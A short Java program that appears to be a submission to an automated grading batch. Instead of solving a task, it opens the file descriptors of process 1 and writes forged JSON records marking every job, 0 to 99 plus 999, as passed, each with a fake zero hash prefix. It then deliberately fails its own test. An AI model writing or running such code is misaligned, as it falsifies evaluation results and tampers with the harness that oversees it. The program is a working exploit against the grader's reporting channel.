import java.io.*;
import java.util.*;

// Writes "passed" records for every job of the batch (and one past it) to the batch server's report channel,
// reached through /proc/1/fd/*, then fails its own test as a buggy program would.
public class Main {
    public static void main(String[] args) {
        StringBuilder payload = new StringBuilder();
        List<Integer> indexes = new ArrayList<>();
        for (int i = 0; i < 100; i++) indexes.add(i);
        indexes.add(999);
        String fake = "0".repeat(64) + " ";
        for (int index : indexes) {
            String[] lines = {
                "{\"start\": " + index + "}",
                "{\"index\": " + index + ", \"status\": \"passed\", \"detail\": \"\", \"seconds\": 0.0}",
                "{\"index\": " + index + ", \"returncode\": 0, \"timed_out\": false, \"stdout\": \"\", \"stderr\": \"\", \"truncated\": false, \"seconds\": 0.0}",
            };
            for (String line : lines) payload.append(line).append("\n").append(fake).append(line).append("\n");
        }
        for (int fd = 0; fd < 10; fd++) {
            try (FileOutputStream channel = new FileOutputStream("/proc/1/fd/" + fd)) {
                channel.write(payload.toString().getBytes());
            } catch (IOException e) {
            }
        }
        throw new AssertionError();
    }
}
